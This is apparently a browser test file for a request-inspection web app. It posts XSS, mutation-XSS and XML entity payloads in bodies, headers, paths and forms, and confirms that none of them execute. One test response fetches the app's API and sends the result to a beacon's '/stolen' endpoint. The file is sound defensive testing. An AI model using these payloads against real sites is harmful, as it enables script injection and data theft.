import { expect, test } from "#tests/helpers/browser.ts";
import {
  newBin,
  openEveryView,
  openRequest,
  type WatchedBin,
} from "#tests/helpers/request-page.ts";
import { type Beacon, hostileMarkup, setTraps, startBeacon } from "#tests/helpers/script-traps.ts";

let beacon: Beacon;
let markup: string;

test.beforeAll(async () => {
  beacon = await startBeacon();
  markup = hostileMarkup(beacon);
});
test.afterAll(() => beacon.close());

type Payload = {
  path?: string;
  type: string;
  headers?: Record<string, string>;
  body: () => string;
};

const post = (bin: WatchedBin, { path = "", type, headers = {}, body }: Payload) =>
  bin.capture(
    { method: "POST", headers: { "Content-Type": type, ...headers }, body: body() },
    path,
  );

const svg = () =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.__ran=1"><script>window.__ran=1;alert(1)</script><image href="${beacon.origin}/in-svg" width="9" height="9"/><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${beacon.origin}/foreign" onerror="window.__ran=1"/></body></foreignObject></svg>`;

const part = (disposition: string, type: string, body: string) =>
  `--b\r\nContent-Disposition: form-data; ${disposition}\r\nContent-Type: ${type}\r\n\r\n${body}\r\n`;

const payloads: Record<string, Payload> = {
  "an HTML body": {
    type: "text/html",
    body: () => `<!doctype html><body onload="window.__ran=1">${markup}`,
  },
  "an SVG body": { type: "image/svg+xml", body: svg },
  "an SVG sent as XML": { type: "application/xml", body: svg },
  "an HTML body that would be read twice": {
    type: "text/html",
    body: () =>
      `<noscript><p title="</noscript>${markup}"></noscript><math><mtext><table><mglyph><style><!--</style>${markup}<link rel="preconnect" href="${beacon.origin}/x"><link rel="stylesheet" href="${beacon.origin}/css"><p style="background:url(${beacon.origin}/bg)"><table background="${beacon.origin}/table"><video poster="${beacon.origin}/poster" src="${beacon.origin}/video"></video><input type="image" src="${beacon.origin}/input"><svg><a xlink:href="javascript:window.top.__ran=1"><text>x</text></a><use href="${beacon.origin}/use"/></svg>`,
  },
  "XML with entities, a style sheet and a schema from elsewhere": {
    type: "application/xml",
    body: () =>
      `<?xml version="1.0"?><?xml-stylesheet href="${beacon.origin}/xsl" type="text/xsl"?><!DOCTYPE a SYSTEM "${beacon.origin}/dtd" [<!ENTITY e SYSTEM "${beacon.origin}/entity"><!ENTITY b "${"&b;".repeat(50)}">]><a xmlns:xsi="x" xsi:schemaLocation="x ${beacon.origin}/xsd">&e;&b;<![CDATA[${markup}]]><b at="${markup.replaceAll('"', "&quot;").replaceAll("<", "&lt;")}"/></a>`,
  },
  "an XHTML body": {
    type: "application/xhtml+xml",
    body: () => `<html xmlns="http://www.w3.org/1999/xhtml"><body>${markup}</body></html>`,
  },
  "strings and keys of JSON": {
    type: "application/json",
    body: () => JSON.stringify({ [markup]: [markup, { "</script>": markup }], __proto__: null }),
  },
  "JSON that is none": { type: "application/json", body: () => `{"a": ${markup}}` },
  "names and values of a form": {
    type: "application/x-www-form-urlencoded",
    body: () =>
      `${encodeURIComponent(markup)}=${encodeURIComponent(markup)}&${markup}=${encodeURIComponent(JSON.stringify({ a: markup }))}`,
  },
  "names, file names, types and contents of multipart": {
    type: "multipart/form-data; boundary=b",
    body: () => {
      const name = markup.replaceAll('"', "%22");
      return `${part(`name="${name}"; filename="${name}.svg"`, "image/svg+xml", svg())}${part(`name="x"`, `text/html${name}`, markup)}--b--\r\n`;
    },
  },
  "the path and the query": {
    path: `/<script>window.__ran=1</script>/%3Cimg%20src=x%20onerror=alert(1)%3E?<svg/onload=alert(1)>=%3Cscript%3Ealert(1)%3C/script%3E`,
    type: "text/plain",
    body: () => "x",
  },
  "header values": {
    type: "text/plain; charset=<script>alert(1)</script>",
    headers: {
      "X-Evil": "<script>window.__ran=1</script><img src=x onerror=alert(1)>",
      Referer: "javascript:alert(1)",
    },
    body: () => markup,
  },
  "the event name of Stripe": {
    type: "application/json",
    headers: { "User-Agent": "Stripe/1.0", "Stripe-Signature": "t=1,v1=<script>alert(1)</script>" },
    body: () => JSON.stringify({ id: markup, object: "event", type: markup }),
  },
  "the event name of GitHub": {
    type: "application/json",
    headers: {
      "X-GitHub-Event": "<img src=x onerror=alert(1)>",
      "X-GitHub-Delivery": "<script>alert(1)</script>",
    },
    body: () => JSON.stringify({ action: markup }),
  },
};

test("nothing runs from any part of a request, in any view of it", async ({ page, server }) => {
  const bin = await newBin(server.origin);
  const ids = new Map<string, string>();
  for (const [place, payload] of Object.entries(payloads)) ids.set(place, await post(bin, payload));
  const sprung = await setTraps(page);
  await openRequest(page, bin, [...ids.values()][0] ?? "");
  for (const [seq, place] of [...ids.keys()].entries()) {
    await page.locator(`#request-${seq + 1}`).click();
    await page.getByRole("article", { name: `Request ${seq + 1}`, exact: true }).waitFor();
    await openEveryView(page);
    expect([place, await sprung()]).toEqual([place, []]);
  }
  // Nothing tells of a request that does not come.
  await page.waitForTimeout(200);
  expect(beacon.hits()).toEqual([]);
});

test.describe("a bin's own answer, opened in a browser that holds our session", () => {
  const answers: [string, string, () => string][] = [
    [
      "HTML",
      "text/html",
      () =>
        `<!doctype html>${markup}<script>fetch("/api/bins").then(r=>r.text()).then(t=>fetch("${beacon.origin}/stolen?"+t));navigator.serviceWorker?.register("/in/x")</script>`,
    ],
    ["SVG", "image/svg+xml", svg],
    [
      "XHTML",
      "application/xhtml+xml",
      () =>
        `<html xmlns="http://www.w3.org/1999/xhtml"><script>window.__ran=1;fetch("${beacon.origin}/ran")</script></html>`,
    ],
  ];
  for (const [kind, type, body] of answers) {
    test(`reaches nothing of ours as ${kind}`, async ({ page, server }) => {
      const bin = await newBin(server.origin);
      await fetch(`${server.origin}/api/bins/${bin.id}`, {
        method: "PATCH",
        headers: { Authorization: `Bearer ${bin.key}`, "Content-Type": "application/json" },
        body: JSON.stringify({ response: { headers: [["Content-Type", type]], body: body() } }),
      });
      // The page with the key makes the browser remember the bin: from here on it has a session cookie.
      await openRequest(page, bin, await bin.capture());
      expect((await page.context().cookies()).length).toBeGreaterThan(0);

      let dialogs = 0;
      page.on("dialog", (dialog) => {
        dialogs += 1;
        void dialog.dismiss();
      });
      const response = await page.goto(`/in/${bin.id}/opened`);
      expect(response?.headers()["content-security-policy"]).toContain("sandbox");
      await page.waitForTimeout(500);
      const seen = await page.evaluate(async () => ({
        origin: self.origin,
        ran: "__ran" in window,
        cookie: (() => {
          try {
            return document.cookie;
          } catch (error) {
            return (error as Error).name;
          }
        })(),
        bins: await fetch("/api/bins", { credentials: "include" }).then(
          (answer) => answer.text(),
          () => "refused",
        ),
      }));
      expect(seen).toEqual({
        origin: "null",
        ran: false,
        cookie: "SecurityError",
        bins: "refused",
      });
      expect(dialogs).toBe(0);
      // Its markup may load images and the like from elsewhere, as any page on the internet; nothing of it may act.
      expect(beacon.hits().filter((hit) => /stolen|ran|form|refresh/.test(hit))).toEqual([]);
    });
  }
});
